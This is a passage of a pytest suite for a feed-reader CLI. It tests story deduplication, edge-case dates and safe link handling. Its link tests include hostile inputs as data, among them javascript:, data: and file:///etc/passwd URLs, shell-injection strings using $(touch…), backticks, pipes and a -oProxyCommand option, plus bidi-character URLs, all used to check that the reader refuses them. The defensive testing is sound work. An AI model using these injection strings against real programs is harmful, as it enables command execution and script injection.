        assert refreshed.code == 0, refreshed
        expected = "Shifty: 1 new\n" if fetch == fetches else ""
        assert refreshed.out == expected, (fetch, refreshed.out)
        told = run("notify")
        assert told.code == 0, told
        sent += [line.split(" — ")[1] for line in told.out.splitlines()]
    stories = stories_json(run, "--limit", "1000")
    assert {s["title"]: s["id"] for s in stories if s["title"] != "Post 3"} == first
    assert len(stories) == 4
    assert sent == ["Post 3"]
    assert [s["title"] for s in stories if s["read"]] == ["Post 1"]
    assert site.hits["/shifty.xml"] == fetches


def test_posts_sharing_a_link_stay_apart(run: Run, site: Site) -> None:
    """Several posts with one link (a home page) and one title, each with its own
    stable guid, are not taken for one story."""
    items = "".join(
        f"<item><guid isPermaLink='false'>post-{n}</guid><title>Update</title><link>/</link></item>"
        for n in range(3)
    )
    body = f"<rss version='2.0'><channel><title>Same</title>{items}</channel></rss>"
    url = site.serve_each_time(
        "/same.xml", lambda _fetch: Document(body.encode(), "application/rss+xml")
    )
    assert run("add", url).code == 0
    assert run("refresh", "--force").code == 0
    assert len(stories_json(run, "--limit", "1000")) == 3


# --- 5. dates far in the future, before 1970, unparseable -------------------------------------

FUTURE = ("y9999", "y3000")
INVALID = ("garbage", "empty", "bad-fields")
PAST = {
    "y1969": "1969-12-31T23:59:59Z",
    "y1900": "1900-01-01T00:00:00Z",
    "y1066": "1066-10-14T12:00:00Z",
}


def dated_document(kind: str, recent: datetime) -> Document:
    rfc = {
        "y9999": "Fri, 31 Dec 9999 23:59:59 GMT",
        "y3000": "Wed, 01 Jan 3000 00:00:00 GMT",
        "recent": f"{recent:%a, %d %b %Y %H:%M:%S} GMT",
        "y1969": "Wed, 31 Dec 1969 23:59:59 GMT",
        "y1900": "Mon, 01 Jan 1900 00:00:00 GMT",
        "y1066": "Sat, 14 Oct 1066 12:00:00 GMT",
        "garbage": "sometime after lunch",
        "empty": "",
        "bad-fields": "Mon, 32 Foo 2026 25:61:61 GMT",
    }
    iso = {
        "y9999": "9999-12-31T23:59:59Z",
        "y3000": "3000-01-01T00:00:00Z",
        "recent": f"{recent:%Y-%m-%dT%H:%M:%S}Z",
        **PAST,
        "garbage": "sometime after lunch",
        "empty": "",
        "bad-fields": "2026-13-45T25:61:61Z",
    }
    if kind == "json":
        items = [
            {"id": k, "url": f"/posts/{k}", "title": k, "date_published": v} for k, v in iso.items()
        ]
        feed = {"version": "https://jsonfeed.org/version/1.1", "title": "Dates", "items": items}
        return Document(json.dumps(feed).encode(), "application/feed+json")
    if kind == "atom":
        entries = "".join(
            f"<entry><id>urn:{k}</id><title>{k}</title><link href='/posts/{k}'/>"
            f"<published>{v}</published></entry>"
            for k, v in iso.items()
        )
        body = (
            "<feed xmlns='http://www.w3.org/2005/Atom'><title>Dates</title><id>urn:d</id>"
            f"{entries}</feed>"
        )
        return Document(body.encode(), "application/atom+xml")
    items = "".join(
        f"<item><guid>{k}</guid><title>{k}</title><link>/posts/{k}</link>"
        f"<pubDate>{v}</pubDate></item>"
        for k, v in rfc.items()
    )
    body = f"<rss version='2.0'><channel><title>Dates</title>{items}</channel></rss>"
    return Document(body.encode(), "application/rss+xml")


@pytest.mark.parametrize("kind", ["rss", "atom", "json"])
def test_dates_far_in_the_future_before_1970_and_unparseable(
    run: Run, site: Site, kind: str
) -> None:
    """No command fails on such dates. Future dates are clamped to the time they were
    first seen and flagged (``~`` on a terminal); dates before 1970 are kept exactly;
    unparseable ones become the first-seen time, flagged, with no published date (or,
    where the parser makes a date of the fields, a flagged clamped one); the listing is
    newest first by the date shown."""
    recent = (datetime.now(UTC) - timedelta(days=40)).replace(microsecond=0)
    before = datetime.now(UTC).replace(microsecond=0)
    added = run("add", site.serve("/dates", dated_document(kind, recent)))
    after = datetime.now(UTC) + timedelta(seconds=1)
    assert added.code == 0, added
    stories = {s["title"]: s for s in stories_json(run)}
    assert len(stories) == 9

    def when(value: str) -> datetime:
        return datetime.fromisoformat(value.replace("Z", "+00:00"))

    for title in FUTURE:
        assert before <= when(stories[title]["published"]) <= after, stories[title]
    for title, iso in PAST.items():
        assert stories[title]["published"] == iso
    assert stories["recent"]["published"] == f"{recent:%Y-%m-%dT%H:%M:%S}Z"
    for title in INVALID:
        published = stories[title]["published"]
        assert published is None or before <= when(published) <= after, stories[title]

    order = [s["published"] or s["first_seen"] for s in stories_json(run)]
    assert order == sorted(order, key=when, reverse=True)

    for tz in ("Pacific/Kiritimati", "America/Los_Angeles"):  # UTC+14, UTC-8: no overflow
        assert on_terminal("list", "--offline", tz=tz).code == 0
    screen = on_terminal("list", "--offline")
    assert screen.code == 0, screen.err
    cells = {line.split()[-1]: line.split() for line in without_styles(screen.out).splitlines()[1:]}
    for title in (*FUTURE, *INVALID):
        assert any(cell.startswith("~") for cell in cells[title]), cells[title]
    for title in ("recent", *PAST):
        assert not any(cell.startswith("~") for cell in cells[title]), cells[title]
    for title in PAST:
        assert PAST[title][:10] in cells[title], cells[title]

    for story in stories.values():
        shown = run("read", str(story["id"]))
        assert shown.code == 0, shown
        assert "\nDate: " in shown.out
    assert run("feeds").code == 0


# --- 6. links: only absolute http(s) URLs reach the browser, never through a shell -----------

REFUSED = {
    "javascript": "javascript:alert(document.cookie)",
    "mixed-case": "JaVaScRiPt:alert(1)",
    "leading-space": " javascript:alert(1)",
    "tab-inside": "java\tscript:alert(1)",
    "data": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file": "file:///etc/passwd",
    "vbscript": "vbscript:msgbox(1)",
    "mailto": "mailto:someone@mail.example",
    "ftp": "ftp://127.0.0.1/pub/file",
    "no-host": "https://",
    "no-slashes": "https:evil.example",
    "bad-ipv6": "http://[::1",
    "space-inside": "http://127.0.0.1/$(touch pwned-space)",
}
# Links that resolve to an absolute http URL on the loopback server ("{base}" stands for
# its root, "{host}" for its host and port): the browser gets them as one argument.
# The second value is the URL expected after resolution, if it differs.
OPTION = "-oProxyCommand=touch${IFS}pwned-option"
OPENED = {
    "double-dash": ("--help", "{base}/--help"),
    "option": (OPTION, "{base}/" + OPTION),
    "relative": ("posts/relative", "{base}/posts/relative"),
    "absolute-path": ("/posts/absolute", "{base}/posts/absolute"),
    "protocol-relative": ("//{host}/posts/protocol", "{base}/posts/protocol"),
    "command-substitution": ("{base}/$(touch${IFS}pwned-dollar)", ""),
    "backticks": ("{base}/`touch${IFS}pwned-backtick`", ""),
    "semicolon": ("{base}/x;touch${IFS}pwned-semicolon;", ""),
    "pipe": ("{base}/x|touch${IFS}pwned-pipe", ""),
    "and": ("{base}/x&&touch${IFS}pwned-and", ""),
    "quotes": ("{base}/'\"$(id)\"'", ""),
    "percent-s": ("{base}/%s%s", ""),
    "credentials": ("http://reader:hunter2@{host}/private", ""),
    "userinfo-trick": ("http://bank.example@{host}/login", ""),
    "upper-case-scheme": ("HTTP://{host}/upper", "{base}/upper"),
    # A control character makes "java\x01script:" no scheme: a relative path, then cleaned.
    "control-inside": ("java\x01script:alert(1)", "{base}/javascript:alert(1)"),
}


def fill(template: str, host: str) -> str:
    return template.replace("{base}", f"http://{host}").replace("{host}", host)


def links_document(kind: str, host: str) -> Document:
    links = dict(REFUSED) | {name: fill(link, host) for name, (link, _) in OPENED.items()}
    if kind == "json":
        items = [{"id": name, "title": f"link {name}", "url": link} for name, link in links.items()]
        feed = {"version": "https://jsonfeed.org/version/1.1", "title": "Links", "items": items}
        return Document(json.dumps(feed).encode(), "application/feed+json")
    items = "".join(
        f"<item><guid isPermaLink='false'>{name}</guid><title>link {name}</title>"
        f"<link>{xml_refs(link)}</link></item>"
        for name, link in links.items()
    )
    body = f"<rss version='2.0'><channel><title>Links</title>{items}</channel></rss>"
    return Document(body.encode(), "application/rss+xml")


@pytest.fixture
def browser(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """BROWSER is a script that appends its arguments (NUL-separated, one record per call)
    to a file; the working directory is an empty folder where shell payloads would land."""
    record = tmp_path / "browser-calls"
    script = tmp_path / "browser.sh"
    script.write_text(
        f"#!/bin/sh\nprintf '%s\\0' \"$#\" \"$@\" >> '{record}'\nprintf '\\n' >> '{record}'\n"
    )
    script.chmod(0o755)
    workdir = tmp_path / "cwd"
    workdir.mkdir()
    monkeypatch.chdir(workdir)
    monkeypatch.setenv("BROWSER", f"{script} %s")
    yield record
    assert sorted(p.name for p in workdir.iterdir()) == []  # no shell ran any payload
    assert not list(tmp_path.glob("**/pwned*"))


def browser_calls(record: Path) -> list[list[str]]:
    """Each call's arguments, as the browser process received them."""
    if not record.exists():
        return []
    calls = []
    for entry in record.read_bytes().split(b"\0\n")[:-1]:
        count, *args = entry.decode().split("\0")
        assert int(count) == len(args)
        calls.append(args)
    return calls


@pytest.mark.parametrize("kind", ["rss", "json"])
def test_open_hands_only_absolute_web_urls_to_the_browser(
    run: Run, site: Site, kind: str, browser: Path
) -> None:
    """`open` refuses every link that is not an absolute http(s) URL (javascript: in any
    spelling, data:, file:, vbscript:, mailto:, ftp:, no host) with one error line and
    exit 1, leaving the story unread and the browser unstarted. Every other link reaches
    the browser as exactly one argument, an absolute http(s) URL (relative links and
    links starting with "-" resolved against the feed), the same one `open --print`
    prints, and shell metacharacters in it are never run. `read` shows each link on one
    line."""
    host = f"127.0.0.1:{site.server.port}"
    url = site.serve("/links", links_document(kind, host))
    assert run("add", url).code == 0
    stories = {s["title"].removeprefix("link "): s for s in stories_json(run, "--limit", "100")}
    assert sorted(stories) == sorted([*REFUSED, *OPENED])

    for name in REFUSED:
        story = stories[name]
        for args in (("open", str(story["id"])), ("open", "--print", str(story["id"]))):
            result = run(*args)
            assert result.code == 1, (name, result)
            assert result.out == ""
            (line,) = result.err.splitlines()
            assert line.startswith(f"storyfeed: error: story {story['id']} has no http(s) link")
            assert_inert(line, name)
    assert browser_calls(browser) == []
    assert not any(
        s["read"] for s in stories_json(run, "--limit", "100") if s["title"][5:] in REFUSED
    )

    for name, (link, expected) in OPENED.items():
        story = stories[name]
        want = fill(expected or link, host)
        assert story["link"] == want, name
        printed = run("open", "--print", str(story["id"]))
        assert printed.code == 0, (name, printed)
        assert printed.out == want + "\n"
        before = len(browser_calls(browser))
        opened = run("open", str(story["id"]))
        assert opened.code == 0, (name, opened)
        assert (opened.out, opened.err) == ("", "")
        calls = browser_calls(browser)
        assert calls[before:] == [[want]], name
        assert re.match(r"https?://[^/\s]+/", want)
    for story in stories.values():
        shown = run("read", str(story["id"]))
        assert shown.code == 0, shown
        (link_line,) = [line for line in shown.out.splitlines() if line.startswith("Link:")]
        assert_inert(link_line, story["title"])
    # `read` shows a link's real host, without its credentials (open passes them on).
    for name, path in (("credentials", "/private"), ("userinfo-trick", "/login")):
        shown = run("read", str(stories[name]["id"]))
        assert f"Link: http://***@{host}{path}\n" in shown.out or (
            f"Link: http://reader:***@{host}{path}\n" in shown.out
        ), shown.out
        assert "hunter2" not in shown.out and "bank.example" not in shown.out


def test_hostile_urls_in_an_imported_subscription_list_are_skipped(
    run: Run, tmp_path: Path
) -> None:
    """An OPML file's feed URLs are the file author's text: control, bidi and invisible
    characters in them are refused like a feed's own, not stored and shown."""
    hostile = [
        "https://a.example/&#x202e;lmx.sser",
        "https://b.example/feed&#x9b;2J",
        "https://c.example/&#x200b;feed",
    ]
    outlines = "".join(f'<outline text="F{n}" xmlUrl="{url}"/>' for n, url in enumerate(hostile))
    opml = tmp_path / "hostile.opml"
    opml.write_text(f'<opml version="2.0"><head/><body>{outlines}</body></opml>')

    result = run("import", str(opml), "--json")

    assert json.loads(result.out)["added"] == 0
    assert_inert(result.err, "import's warnings")
    for output in (run("feeds").out, run("feeds", "--json").out, run("export").out):
        assert_inert(output, "feeds and export")
        assert "example" not in output
